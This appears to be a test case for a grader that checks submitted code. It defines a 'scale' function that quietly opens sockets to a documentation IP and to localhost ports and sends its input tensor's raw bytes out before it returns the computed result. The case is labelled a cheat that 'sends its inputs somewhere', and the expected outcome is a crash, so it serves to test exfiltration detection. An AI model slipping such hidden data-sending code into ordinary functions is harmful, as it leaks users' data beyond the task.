CASE = {
    "cheat": 65,
    "op": "scale",
    "why": "sends its inputs somewhere",
    "expect": {"verdicts": ["crashed"], "labels": ["imports socket"], "words": "OSError"},
}

import socket


def scale(x):
    for address in (("192.0.2.1", 80), ("127.0.0.1", 22), ("127.0.0.1", 8888)):
        try:
            with socket.create_connection(address, timeout=1) as line:
                line.sendall(x.cpu().numpy().tobytes())
                return x * 2 + 1
        except OSError:
            continue
    raise OSError("no network")
